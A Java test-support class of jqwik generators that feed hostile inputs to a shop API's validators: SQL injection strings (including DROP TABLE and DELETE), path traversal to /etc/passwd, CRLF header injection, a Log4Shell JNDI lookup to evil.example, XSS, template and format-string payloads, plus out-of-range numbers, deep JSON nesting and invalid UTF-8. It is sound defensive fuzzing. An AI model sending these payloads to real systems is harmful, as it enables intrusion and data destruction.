package dev.vertxshop.testing.hostile;

import dev.vertxshop.testing.hostile.JsonText.Raw;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Generators of hostile values: injection-shaped, oversized, control and odd Unicode strings;
 * numbers at and beyond every boundary (0, negative, 2^63, 1e400, long decimals); JSON of the
 * wrong type or nested thousands deep; invalid UTF-8; broken percent-encoding for URIs.
 */
public final class HostileInputs {

  private HostileInputs() {}

  /** Strings an attacker (or a broken client) would try, over all the families above. */
  public static final List<String> NAMED_STRINGS = List.of(
      "",
      " ",
      "\t\n",
      "' OR '1'='1",
      "'; DROP TABLE orders.orders; --",
      "1; SELECT pg_sleep(5)--",
      "\" OR \"\"=\"",
      "admin'--",
      "1' UNION SELECT null, version()--",
      "$$; DELETE FROM inventory.products; $$",
      "%' AND 1=1 AND '%'='",
      "../../../../etc/passwd",
      "..\\..\\..\\windows\\win.ini",
      "..%2f..%2f..%2fetc%2fpasswd",
      "%2e%2e%2f%2e%2e%2f",
      "/etc/passwd\u0000.png",
      "a\r\nSet-Cookie: session=stolen",
      "%0d%0aLocation:%20http://evil.example",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}}",
      "%s%s%s%s%n",
      "<script>alert(1)</script>",
      "\u0000",
      "\uFEFFbom",
      "\u202Eevil",
      "\uD83D\uDE00",
      "\uD800",
      "\uDFFF\uD800",
      "e\u0301\u0301\u0301\u0301",
      "\uFF11\uFF12\uFF13",
      "null",
      "true",
      "-1",
      "9223372036854775808",
      "NaN",
      "x".repeat(257),
      "\u00e9".repeat(300));

  /** {@link #NAMED_STRINGS}, random strings of any characters, and long ones. */
  public static Arbitrary<String> strings() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(4, Arbitraries.of(NAMED_STRINGS)),
        net.jqwik.api.Tuple.of(3, Arbitraries.strings().all().ofMinLength(0).ofMaxLength(80)),
        net.jqwik.api.Tuple.of(1, Arbitraries.strings().withChars("a\u00e9'\"%;-").ofMinLength(100).ofMaxLength(5000)));
  }

  /** The {@link #strings()} for which {@code invalid} holds: values the field at hand must refuse. */
  public static Arbitrary<String> stringsThatAre(Predicate<String> invalid) {
    return strings().filter(invalid::test);
  }

  /** JSON numbers (as raw text) that are not whole numbers in {@code min..max}. */
  public static Arbitrary<Raw> numbersOutside(long min, long max) {
    BigInteger two63 = BigInteger.TWO.pow(63);
    List<String> literals = new ArrayList<>(List.of(
        Long.toString(min - 1),
        max == Long.MAX_VALUE ? two63.toString() : Long.toString(max + 1),
        two63.toString(),
        two63.negate().subtract(BigInteger.ONE).toString(),
        "18446744073709551616",
        "1" + "0".repeat(400),
        "1e400",
        "-1e400",
        "1e-400",
        min + ".5",
        "0.000000000000000000000000000001",
        "123456789012345678901234567890.123456789012345678901234567890",
        "-0.5"));
    if (min > 0) {
      literals.add("0");
      literals.add("-1");
    }
    if (min <= 0 && max >= 0) {
      literals.remove("-0.5");
      literals.add("0.5");
    }
    return Arbitraries.of(literals).map(Raw::new);
  }

  /** A JSON value of another type than {@code kind}: strings, numbers, booleans, null, arrays, objects, deep nesting. */
  public static Arbitrary<Object> wrongTypes(Kind kind) {
    List<Arbitrary<Object>> choices = new ArrayList<>();
    if (kind != Kind.STRING) {
      choices.add(strings().map(s -> s));
      choices.add(Arbitraries.of("1", "0", "-1").map(s -> s));
    }
    if (kind != Kind.INTEGER) {
      choices.add(Arbitraries.of(0, -1, 1, Integer.MAX_VALUE).map(n -> n));
      choices.add(numbersOutside(1, 1).map(n -> n));
    }
    choices.add(Arbitraries.of(true, false).map(b -> b));
    choices.add(Arbitraries.just(null));
    if (kind != Kind.ARRAY) {
      choices.add(Arbitraries.of(List.of(), List.of(1, 2), List.of("a")).map(l -> l));
    }
    if (kind != Kind.OBJECT) {
      choices.add(Arbitraries.of(Map.of(), Map.of("$where", "1==1")).map(m -> m));
    }
    choices.add(deepNesting().map(r -> r));
    return Arbitraries.oneOf(choices);
  }

  /** Arrays or objects nested 50 to 20 000 levels deep. */
  public static Arbitrary<Raw> deepNesting() {
    return Arbitraries.of(50, 1_000, 1_001, 5_000, 20_000).flatMap(depth -> Arbitraries.of(
        new Raw("[".repeat(depth) + "]".repeat(depth)),
        new Raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth))));
  }

  /** A kind of JSON value a schema asks for. */
  public enum Kind { STRING, INTEGER, ARRAY, OBJECT }

  /** Byte sequences that are not UTF-8: lone continuation bytes, overlong forms, surrogates, truncated sequences. */
  public static Arbitrary<byte[]> invalidUtf8() {
    return Arbitraries.of(
        new byte[] {(byte) 0xff},
        new byte[] {(byte) 0xfe, (byte) 0xff},
        new byte[] {(byte) 0x80},
        new byte[] {(byte) 0xc0, (byte) 0xaf},
        new byte[] {(byte) 0xe0, (byte) 0x80, (byte) 0xaf},
        new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
        new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
        new byte[] {(byte) 0xe2, (byte) 0x82},
        new byte[] {0});
  }

  /**
   * Path segments or query values that break URI syntax or try to escape: invalid and partial
   * percent-encoding, encoded NUL, CR and LF, encoded traversal, overlong UTF-8, raw spaces.
   */
  public static Arbitrary<String> uriBreakers() {
    return Arbitraries.of(
        "%zz", "%", "%4", "%00", "%0d%0a", "%0aX-Injected:%201", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f",
        "%c0%af", "%ff%fe", "%ed%a0%80", "a%20b", "%25", "%27%20OR%20%271%27%3D%271", "%3Cscript%3E", ";jsessionid=1",
        "x".repeat(300), "%u0041", "\\..\\..");
  }

  /** {@code bytes} with {@code insert} placed at {@code at} (clamped to the array). */
  public static byte[] insertAt(byte[] bytes, int at, byte[] insert) {
    int position = Math.max(0, Math.min(at, bytes.length));
    byte[] out = new byte[bytes.length + insert.length];
    System.arraycopy(bytes, 0, out, 0, position);
    System.arraycopy(insert, 0, out, position, insert.length);
    System.arraycopy(bytes, position, out, position + insert.length, bytes.length - position);
    return out;
  }

  /** {@code text} as UTF-8. */
  public static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  /** A deep copy of a JSON template built from maps and lists, so a mutation never touches the template. */
  @SuppressWarnings("unchecked")
  public static Object copy(Object value) {
    if (value instanceof Map<?, ?> map) {
      Map<String, Object> out = new LinkedHashMap<>();
      map.forEach((k, v) -> out.put((String) k, copy(v)));
      return out;
    }
    if (value instanceof List<?> list) {
      List<Object> out = new ArrayList<>();
      list.forEach(v -> out.add(copy(v)));
      return out;
    }
    return value;
  }
}
